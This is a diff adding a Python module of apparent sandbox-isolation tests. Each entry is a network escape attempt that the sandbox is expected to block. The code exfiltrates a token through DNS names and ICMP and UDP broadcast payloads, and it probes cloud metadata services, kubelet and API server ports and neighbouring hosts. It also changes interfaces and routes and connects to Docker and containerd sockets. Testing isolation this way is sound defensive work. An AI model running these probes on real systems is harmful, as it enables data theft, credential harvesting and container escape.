@@ -1,0 +1,191 @@
+"""Getting data out over any kind of network. The canary, the machine's listener and the neighbour hear nothing."""
+
+from __future__ import annotations
+
+from sandbox.attacks.attack import Attack
+
+_HEARD = "canary on the routed network, listener on the machine and neighbour job hear nothing"
+
+
+def _attack(name: str, tries: str, script: str) -> Attack:
+    return Attack(f"network-{name}", "network", tries, script + "\nsettle()\n", _HEARD)
+
+
+ATTACKS = (
+    _attack(
+        "tcp",
+        "connect to canary, API server, kubelet, DNS, services, machine and public addresses",
+        """
+PUBLIC = ["1.1.1.1:443", "8.8.8.8:53", "93.184.215.14:80", "127.0.0.1:10250", "127.0.0.1:6443"]
+many(lambda target: attempt(f"tcp {target}", dial, target), TARGETS + PUBLIC)
+""",
+    ),
+    _attack(
+        "udp",
+        "send datagrams there, answered or not",
+        """
+many(lambda target: attempt(f"udp {target}", dial, target, socket.SOCK_DGRAM), TARGETS + ["8.8.8.8:53"])
+for target in TARGETS:
+    for _ in range(5):
+        try:
+            dial(target, socket.SOCK_DGRAM, 0.1, False)
+        except OSError:
+            pass
+""",
+    ),
+    _attack(
+        "dns",
+        "carry data out in names: through the resolver, over UDP, over TCP",
+        """
+for name in ("kubernetes.default.svc.cluster.local", "example.com", TOKEN.decode()[4:].replace(":", "-") + ".example.com"):
+    attempt(f"resolve {name}", socket.getaddrinfo, name, 80)
+query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\\x07example\\x03com\\0\\0\\1\\0\\1"
+servers = [target.rpartition(":")[0] for target in TARGETS if target.endswith(":53")] + ["8.8.8.8", "127.0.0.1", "127.0.0.53"]
+def ask(server):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(1)
+        s.sendto(query, (server, 53))
+        return s.recv(512)
+for server in servers:
+    attempt(f"dns udp {server}", ask, server)
+    attempt(f"dns tcp {server}", dial, f"{server}:53")
+""",
+    ),
+    _attack(
+        "ipv6",
+        "leave over IPv6: global, link-local, multicast, mapped IPv4",
+        """
+links = [name for _, name in socket.if_nameindex() if name != "lo"]
+near = [f"[{a}%{link}]:{p}" for link in links for a in ("fe80::1", "ff02::1", "ff02::2", "ff02::fb") for p in (53, 6443, 7007)]
+far = ["[2606:4700:4700::1111]:443", "[fd00:ec2::254]:80", "[fd00::1]:7007"]
+mapped = ["[::ffff:%s]:%s" % tuple(t.rsplit(":", 1)) for t in TARGETS]
+many(lambda target: attempt(f"tcp6 {target}", dial, target), near + far + mapped)
+def sent(target):
+    dial(target, socket.SOCK_DGRAM, 0.3, False)
+    return "sent"
+many(lambda target: attempt(f"udp6 {target}", sent, target), near + far)
+""",
+    ),
+    _attack(
+        "raw",
+        "raw and packet sockets, ICMP, forged frames",
+        """
+for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
+                               (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_PACKET, socket.SOCK_RAW, 0x0300), (socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300)):
+    attempt(f"socket {family} {kind} {protocol}", socket.socket, family, kind, protocol)
+def ping():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
+        s.settimeout(1)
+        s.connect((TARGETS[0].rpartition(":")[0], 0))
+        s.send(b"\\x08\\0\\0\\0\\0\\1\\0\\1" + TOKEN)
+        return s.recv(200)
+attempt("ping", ping)
+""",
+    ),
+    _attack(
+        "metadata",
+        "read the cloud's metadata service",
+        """
+import urllib.request
+for host in ("169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "192.0.0.192", "metadata.google.internal"):
+    attempt(host, lambda: urllib.request.urlopen(f"http://{host}/latest/meta-data/", timeout=1).read(100))
+""",
+    ),
+    _attack(
+        "neighbours",
+        "talk to other jobs on the same link: broadcast, multicast, every address of the network",
+        """
+import ipaddress
+own = [line.split()[0] for line in open("/etc/hosts") if line.split()[1:2] == [socket.gethostname()]]
+nets = set()
+for line in open("/proc/net/route").read().splitlines()[1:]:
+    f = line.split()
+    mask, net = (struct.unpack("<L", bytes.fromhex(f[i]))[0] for i in (7, 1))
+    if f[7] != "00000000":
+        nets.add(ipaddress.ip_network((socket.inet_ntoa(bytes.fromhex(f[1])[::-1]), socket.inet_ntoa(bytes.fromhex(f[7])[::-1])), strict=False))
+def shout(address):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+        s.sendto(TOKEN, (address, 7007))
+for address in ["255.255.255.255", "224.0.0.1", "224.0.0.251"] + [str(net.broadcast_address) for net in nets]:
+    try:
+        shout(address)
+    except OSError as problem:
+        print(address, problem)
+near = []
+for net in nets:
+    first = max(int(net.network_address), int(ipaddress.ip_address((own or ["0.0.0.0"])[0])) - 40)
+    near += [str(ipaddress.ip_address(n)) for n in range(first, min(first + 80, int(net.broadcast_address))) if str(ipaddress.ip_address(n)) not in own]
+print(len(near), "addresses near")
+many(lambda host: attempt(f"tcp {host}", dial, f"{host}:7007", socket.SOCK_STREAM, 0.3), near)
+many(lambda host: attempt(f"udp {host}", dial, f"{host}:7007", socket.SOCK_DGRAM, 0.2), near)
+""",
+    ),
+    _attack(
+        "families",
+        "transports that filters forget: SCTP, DCCP, vsock, TIPC, CAN, Bluetooth, AF_ALG, RDS, netlink",
+        """
+host, _, port = TARGETS[0].rpartition(":")
+def protocol(kind, number):
+    with socket.socket(socket.AF_INET, kind, number) as s:
+        s.settimeout(0.5)
+        s.connect((host, int(port)))
+        return "connected"
+for name, kind, number in (("sctp", socket.SOCK_STREAM, 132), ("sctp", socket.SOCK_SEQPACKET, 132), ("dccp", 6, 33), ("udplite", socket.SOCK_DGRAM, 136)):
+    attempt(name, protocol, kind, number, harmless=lambda answer, n=name: n == "udplite")
+def vsock():
+    with socket.socket(40, socket.SOCK_STREAM) as s:
+        s.settimeout(0.5)
+        s.connect((2, 1024))
+        return "connected"
+attempt("vsock", vsock)
+for name, family, kind in (("tipc", 30, 5), ("can", 29, 3), ("bluetooth", 31, 5), ("rds", 21, 5), ("xdp", 44, 3), ("smc", 43, 1), ("nfc", 39, 5), ("key", 15, 3)):
+    attempt(name, lambda: socket.socket(family, kind).fileno(), harmless=lambda answer: True)
+""",
+    ),
+    _attack(
+        "links",
+        "change the network: addresses, routes, links, tunnels, a namespace of one's own",
+        """
+import fcntl
+name = next((n for _, n in socket.if_nameindex() if n != "lo"), "eth0").encode()
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+address = struct.pack("16sH2x4s8x", name, socket.AF_INET, socket.inet_aton("198.18.0.9"))
+attempt("set address", fcntl.ioctl, s, 0x8916, address)
+attempt("set flags", fcntl.ioctl, s, 0x8914, struct.pack("16sh22x", name, 0x1103))
+attempt("set hardware address", fcntl.ioctl, s, 0x8924, struct.pack("16sH14s8x", name, 1, b"\\2\\0\\0\\0\\0\\7"))
+route = struct.pack("<IHHIIBBBBBBBBI", 0, 24, 0x405, 1, 0, 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("<HHI", 8, 4, 2)
+route = struct.pack("<I", len(route)) + route[4:]
+def add_route():
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as n:
+        n.send(route)
+        code = struct.unpack_from("<i", n.recv(1024), 16)[0]
+        if code:
+            raise OSError(-code, "refused")
+        return "added"
+attempt("add route", add_route)
+attempt("tun", os.open, "/dev/net/tun", os.O_RDWR)
+attempt("own network", syscall, "unshare", 0x40000000)
+""",
+    ),
+    _attack(
+        "sockets",
+        "sockets of others: abstract ones, container runtimes', Docker's",
+        """
+for path in ("/run/containerd/containerd.sock", "/var/run/docker.sock", "/run/crio/crio.sock", "/var/lib/kubelet/device-plugins/kubelet.sock", "/run/systemd/private", "/run/dbus/system_bus_socket"):
+    def connect():
+        with socket.socket(socket.AF_UNIX) as s:
+            s.connect(path)
+            return "connected"
+    attempt(path, connect)
+for line in open("/proc/net/unix").read().splitlines()[1:]:
+    name = line.split()[-1]
+    if name.startswith("@"):
+        def abstract():
+            with socket.socket(socket.AF_UNIX) as s:
+                s.connect(b"\\0" + name[1:].encode())
+                return "connected"
+        attempt(name, abstract)
+""",
+    ),
+)
